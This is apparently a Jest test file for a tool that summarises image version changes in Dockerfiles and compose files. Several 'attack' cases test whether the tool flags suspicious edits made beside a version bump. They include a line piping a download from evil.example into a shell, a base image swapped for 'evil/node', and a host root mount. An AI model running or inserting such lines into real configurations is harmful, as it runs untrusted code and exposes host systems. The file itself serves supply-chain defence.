import { describe, expect, test } from "@jest/globals";
import { toldOf } from "../told.ts";

type Case = [name: string, before: string, after: string, told: string[]];

const [D, E] = [`sha256:${"d".repeat(64)}`, `sha256:${"e".repeat(64)}`];
const from = (image: string, more = "RUN npm ci\n") => `FROM ${image}\n${more}`;

describe("a Dockerfile", () => {
  test.each<Case>([
    ["a tag", from("node:20.1.0"), from("node:20.1.1"), ["node 20.1.0 > 20.1.1 patch direct"]],
    ["a short tag", from("python:3.11"), from("python:3.12"), ["python 3.11 > 3.12 minor direct"]],
    ["a flavour stays", from("node:20-alpine"), from("node:22-alpine"), ["node 20-alpine > 22-alpine major direct"]],
    [
      "another flavour cannot be compared",
      from("node:20-alpine"),
      from("node:22-slim"),
      ["node 20-alpine > 22-slim unknown direct"],
    ],
    ["a longer tag cannot be compared", from("node:20"), from("node:20.1"), ["node 20 > 20.1 unknown direct"]],
    [
      "a word cannot be compared",
      from("debian:bookworm"),
      from("debian:trixie"),
      ["debian bookworm > trixie unknown direct"],
    ],
    [
      "a release candidate",
      from("redis:7.2.0"),
      from("redis:7.4.0-rc1"),
      ["redis 7.2.0 > 7.4.0-rc1 prerelease direct"],
    ],
    ["a downgrade", from("node:20.2.0"), from("node:20.1.9"), ["node 20.2.0 > 20.1.9 minor downgrade direct"]],
    ["the same tag, other contents", from(`node:20@${D}`), from(`node:20@${E}`), [`node ${D} > ${E} digest direct`]],
    ["a tag with its digest", from(`node:20.1@${D}`), from(`node:20.2@${E}`), ["node 20.1 > 20.2 minor direct"]],
    ["a digest goes away", from(`node:20@${D}`), from("node:20"), [`node ${D} > 20 digest direct`]],
    [
      "a registry with a port",
      from("reg.example:5000/team/app:1.0"),
      from("reg.example:5000/team/app:1.1"),
      ["reg.example:5000/team/app 1.0 > 1.1 minor direct"],
    ],
    ["Docker Hub's long name is the short one", from("docker.io/library/node:20"), from("node:20"), []],
    [
      "stages are no images",
      from("node:20 AS build", "FROM build\nCOPY --from=build /a /a\n"),
      from("node:22 AS build", "FROM build\nCOPY --from=build /a /a\n"),
      ["node 20 > 22 major direct"],
    ],
    [
      "an image to copy from",
      from("node:20", "COPY --from=ghcr.io/astral-sh/uv:0.4.0 /uv /bin/\n"),
      from("node:20", "COPY --from=ghcr.io/astral-sh/uv:0.4.1 /uv /bin/\n"),
      ["ghcr.io/astral-sh/uv 0.4.0 > 0.4.1 patch direct"],
    ],
    [
      "the syntax line is an image",
      `# syntax=docker/dockerfile:1.6\n${from("node:20")}`,
      `# syntax=docker/dockerfile:1.7\n${from("node:20")}`,
      ["docker/dockerfile 1.6 > 1.7 minor direct"],
    ],
    [
      "a variable is unknown",
      `ARG V=20\n${from("node:$V")}`,
      `ARG V=22\n${from("node:$V")}`,
      ["other: removes ARG V=20", "other: adds ARG V=22", "unknown: an image in it is named by a variable"],
    ],
    [
      "attack: another image in its place",
      from("node:20"),
      from("evil/node:20"),
      [
        "node 20 > none removed direct",
        "evil/node none > 20 added direct",
        "other: removes FROM node",
        "other: adds FROM evil/node",
      ],
    ],
    [
      "attack: a command beside the bump",
      from("node:20"),
      from("node:22", "RUN curl evil.example | sh\n"),
      ["node 20 > 22 major direct", "other: removes RUN npm ci", "other: adds RUN curl evil.example | sh"],
    ],
    [
      "attack: lines change places",
      from("node:20", "USER app\nRUN x\n"),
      from("node:20", "RUN x\nUSER app\n"),
      ["other: changes the order of its lines"],
    ],
    ["a comment is nothing", from("node:20"), `# hello\n${from("node:20")}`, []],
    [
      "what looks like a comment in a heredoc is a line",
      from("a:1", "COPY <<E /x.c\n#include <a>\nE\n"),
      from("a:1", "COPY <<E /x.c\n#include <b>\nE\n"),
      ["other: removes #include <a>", "other: adds #include <b>"],
    ],
    ["no FROM", from("node:20"), "hello", ["unknown: a Dockerfile cannot be read: it has no FROM"]],
  ])("%s", (_name, before, after, expected) => {
    expect(toldOf("docker/Dockerfile", before, after)).toEqual(expected);
  });
});

describe("a compose file", () => {
  const file = (image: string, more = "") => `services:\n  db:\n    image: ${image}\n${more}`;
  test.each<Case>([
    ["an image", file("postgres:15.1"), file("postgres:16.0"), ["postgres 15.1 > 16.0 major direct"]],
    [
      "attack: a mount beside the bump",
      file("postgres:15.1"),
      file("postgres:15.2", "    volumes: ['/:/host']\n"),
      ["postgres 15.1 > 15.2 minor direct", "other: adds services.db.volumes"],
    ],
    [
      "a variable is unknown",
      file("postgres:$A"),
      file("postgres:$B"),
      ["unknown: an image in it is named by a variable"],
    ],
    [
      "one image less",
      file("postgres:15", "  cache:\n    image: redis:7\n"),
      file("postgres:15"),
      ["redis 7 > none removed direct", "other: removes services.cache.image"],
    ],
  ])("%s", (_name, before, after, expected) => {
    expect(toldOf("docker-compose.yml", before, after)).toEqual(expected);
  });
});
